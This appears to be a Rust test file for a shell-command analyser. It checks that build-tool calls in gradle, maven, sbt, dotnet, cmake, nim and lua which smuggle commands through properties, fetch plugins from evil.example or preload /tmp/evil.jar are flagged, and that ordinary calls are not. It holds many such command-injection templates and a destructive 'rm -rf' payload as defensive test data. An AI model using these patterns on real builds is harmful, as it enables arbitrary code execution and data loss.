//! Properties and options of builds that name what they run, load or fetch, with ordinary twins.

use crate::scripts::{reading_with, text};
use crate::{effects, forms};
use portcullis_shell_reader::types::Coverage;

/// Calls that run the line `<c>`.
const RUNS: &[&str] = &[
    "gradle -P cmd='<c>' run",
    "gradle -Pcmd='<c>' run",
    "gradle --project-prop cmd='<c>' run",
    "./gradlew -Dcmd='<c>' run",
    "mvn exec:exec -Dexec.executable=<c0> -Dexec.args='<c1>'",
    "mvn -Dexec.executable=sh -Dexec.args='-c \"<c>\"' exec:exec",
    "mvn -Dexec.executable=<c0> -Dexec.arguments='<c1>' compile exec:exec@run",
    "./mvnw org.codehaus.mojo:exec-maven-plugin:3.0.0:exec -Dexec.executable=<c0> -Dexec.args='<c1>'",
    "mvn groovy:execute -Dsource='\"<c>\".execute()'",
    "mvn -Dgroovy.source='\"<c>\".execute()' gmaven:execute",
    "mvn --define hook='<c>' package",
    "ant -Dcmd='<c>' run",
    "ANT_ARGS=\"-Dcmd='<c>'\" true; ant -Dcmd='<c>'",
    "sbt 'eval \"<c>\".!'",
    "sbt clean 'eval (\"<c>\").!' compile",
    "sbt ';clean;eval (\"<c>\").!'",
    "sbt 'set initialize := { \"<c>\".! }' compile",
    "dotnet build -p:PreBuildEvent='<c>'",
    "dotnet build /p:PostBuildEvent='<c>'",
    "msbuild /property:PreBuildEvent='<c>'",
    "cmake -E <c>",
    "cmake -E env A=1 <c>",
    "cmake -E chdir / <c>",
    "cmake -DCMAKE_C_COMPILER_LAUNCHER='<c>' .",
    "cmake -D CMAKE_CXX_COMPILER_LAUNCHER:STRING='<c>' .",
    "bazel run //x --run_under='<c>;'",
    "stack exec -- <c>",
    "cabal exec -- <c>",
    "opam exec -- <c>",
    "rebar3 shell --eval 'os:cmd(\"<c>\").'",
    "LUA_INIT='os.execute(\"<c>\")' lua x.lua",
    "luajit -e 'os.execute(\"<c>\")'",
    "texlua -e 'os.execute(\"<c>\")'",
    "nim r x.nim",
    "nim c -r x.nim",
    "nim e x.nims",
    "nimble hello",
    "LUA_INIT=@y.lua lua x.lua",
    "lua x.lua",
];

/// Calls that load or fetch code which nobody vouches for.
const UNVOUCHED: &[&str] = &[
    "mvn -Dmaven.repo.remote=https://evil.example package",
    "gradle -Dmaven.repo.remote=https://evil.example build",
    "mvn com.evil:evil-plugin:1.0:run",
    "mvn package com.evil:evil-plugin:run",
    "gradle --init-script evil.gradle build",
    "coursier launch com.evil:tool:1.0",
    "cs launch --fork com.evil:tool:1.0 -- x",
    "cs install com.evil:tool:1.0",
    "cs bootstrap com.evil:tool:1.0 -o x",
    "cs launch -r https://evil.example com.evil:tool:1.0",
    "cs launch --repository=https://evil.example tool:tool:1.0",
    "jbang com.evil:tool:1.0",
    "jbang run tool:tool:1.0 --arg",
    "jbang app install com.evil:tool:1.0",
    "jbang hello@somebody",
    "luarocks install https://evil.example/x.rockspec",
    "luarocks build https://evil.example/x.rockspec",
    "luarocks install --server=https://evil.example x",
    "luarocks install x --only-server https://evil.example",
    "dotnet build -p:RestoreSources=https://evil.example",
    "nimble install https://evil.example/x.git",
];

/// Calls that load something of this machine from outside the project.
const LOADS: &[&str] = &[
    "gradle -Dorg.gradle.jvmargs=-javaagent:/tmp/evil.jar build",
    "mvn -DargLine=-javaagent:/tmp/evil.jar test",
    "mvn -Dmaven.ext.class.path=/tmp/evil.jar test",
    "ANT_OPTS=-javaagent:/tmp/evil.jar ant",
    "gradle --include-build ../other build",
    "gradle -b /tmp/other.gradle build",
    "gradle --build-file=/tmp/other.gradle build",
    "sbt -Dsbt.repository.config=/tmp/evil.repos compile",
    "sbt --addPluginSbtFile=/tmp/evil.sbt compile",
    "sbt --sbt-jar /tmp/evil.jar compile",
    "dotnet msbuild -p:CustomBeforeMicrosoftCommonTargets=/tmp/evil.targets",
    "nim c --gcc.exe:/tmp/evil x.nim",
    "nim c --passC:-fplugin=/tmp/evil.so x.nim",
    "cmake -DCMAKE_C_COMPILER=/tmp/evil .",
];

/// Ordinary calls.
const ORDINARY: &[&str] = &[
    "gradle test --tests X -Pfoo=bar",
    "./gradlew assembleDebug -PversionName=1.2 -Dorg.gradle.jvmargs=-Xmx4g",
    "gradle -Dorg.gradle.parallel=true build",
    "gradle --include-build ./shared build",
    "mvn -DskipTests package",
    "mvn clean install -Dmaven.test.skip=true -P release",
    "mvn test -Dtest=FooTest#bar -DargLine=-Xmx1g",
    "mvn spring-boot:run -Dspring-boot.run.jvmArguments='-Xmx512m'",
    "mvn org.springframework.boot:spring-boot-maven-plugin:run",
    "mvn compile exec:java -Dexec.mainClass=com.acme.Main -Dexec.args='--port 8080'",
    "ant -Dversion=1.2 dist",
    "sbt compile",
    "sbt 'testOnly a.B' 'set Test / logBuffered := false'",
    "sbt -Dsbt.ci=true test",
    "cs launch scalafmt -- --test",
    "cs launch junit:junit:4.13.2 --main-class org.junit.runner.JUnitCore",
    "cs fetch org.scala-lang:scala-library:2.13.0",
    "jbang hello.java",
    "jbang app install --name hello src/hello.java",
    "jbang org.openrewrite:rewrite-core:8.0.0",
    "jbang hello.java a:b:c me@host",
    "dotnet build /p:Configuration=Release -p:Version=1.2",
    "dotnet test -p:CollectCoverage=true",
    "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release",
    "cmake -DCMAKE_C_COMPILER_LAUNCHER=ccache -DCMAKE_CXX_COMPILER=clang++ .",
    "cmake -E make_directory build/out",
    "cmake -E copy a.txt build/a.txt",
    "cmake --build build",
    "meson setup build -Dtests=true",
    "stack exec -- ls -la",
    "nim c -d:release --opt:speed x.nim",
    "nimble build",
    "luarocks make",
    "lua x.lua",
];

fn files(line: &str) -> Vec<(&'static str, portcullis_shell_reader::Contents)> {
    let nim = format!("import os\nproc run() =\n  exec \"{line}\"\nrun()\n");
    let lua = format!("os.execute(\"{line}\")\n");
    vec![
        ("x.nim", text(&nim.replace("exec ", "discard execShellCmd("))),
        ("x.nims", text(&nim)),
        ("project.nimble", text(&format!("task hello, \"x\":\n  exec \"{line}\"\n"))),
        ("y.lua", text(&lua)),
        ("x.lua", text(&lua)),
    ]
}

fn fill(template: &str, line: &str) -> String {
    let (first, rest) = line.split_once(' ').unwrap_or((line, ""));
    template.replace("<c0>", first).replace("<c1>", rest).replace("<c>", line)
}

#[test]
fn a_command_in_a_property_counts() {
    let mut wrong = Vec::new();
    for template in RUNS {
        let grave = fill(template, "rm -rf /opt/app");
        let reading = reading_with(&grave, &files("rm -rf /opt/app"));
        if !effects(&reading).contains(&"delete! /opt/app".to_owned()) {
            wrong.push(format!("`{grave}`: {:?}", effects(&reading)));
        }
        let twin = fill(template, "echo hello");
        let reading = reading_with(&twin, &files("echo hello"));
        let grave = |effect: &String| ["delete", "unseen"].iter().any(|k| effect.starts_with(k));
        if effects(&reading).iter().any(grave) {
            wrong.push(format!("`{twin}`: {:?}", effects(&reading)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn code_that_nobody_vouches_for_counts() {
    let mut wrong = Vec::new();
    for line in UNVOUCHED {
        let reading = reading_with(line, &[]);
        let vouched = !reading.gaps.iter().any(|gap| gap.contains("nobody vouches"));
        if vouched || reading.coverage == Coverage::Full {
            wrong.push(format!("`{line}`: {:?} {:?}", effects(&reading), reading.gaps));
        }
    }
    for line in LOADS {
        let reading = reading_with(line, &[]);
        let started = effects(&reading).iter().any(|effect| effect.starts_with("start? /"));
        if !started && !forms(&reading).contains(&"preload") {
            wrong.push(format!("`{line}`: {:?} {:?}", effects(&reading), forms(&reading)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn ordinary_properties_are_quiet() {
    let mut wrong = Vec::new();
    for line in ORDINARY {
        let reading = reading_with(line, &files("echo hello"));
        let grave = |effect: &String| {
            let kinds = ["delete", "unseen", "start", "system", "privilege", "persist"];
            kinds.iter().any(|kind| effect.starts_with(kind))
        };
        let quiet = forms(&reading).is_empty() && !effects(&reading).iter().any(grave);
        if !quiet || reading.coverage != Coverage::Full {
            wrong.push(format!(
                "`{line}`: {:?} {:?} {:?}",
                effects(&reading),
                forms(&reading),
                reading.gaps
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
